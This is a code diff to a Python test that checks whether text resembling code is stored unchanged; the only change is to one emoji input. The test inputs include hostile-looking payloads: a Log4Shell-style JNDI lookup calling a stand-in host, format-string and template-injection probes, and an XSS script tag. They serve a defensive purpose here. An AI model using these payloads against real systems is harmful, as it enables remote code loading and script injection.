@@ -164,7 +164,7 @@ def test_email_of_another_case_is_the_same_email(email: str, stack: Stack) -> No
         "${jndi:ldap://evil.example/a}",
         "%s%n%x {0} {{7*7}}",
         "<script>alert(1)</script>",
-        "名前 José \U0001f680",
+        "名前 José \U0001f9d1\u200d\U0001f680",
     ],
 )
 def test_text_that_looks_like_code_is_stored_as_it_is(name: str, entrance: str) -> None:
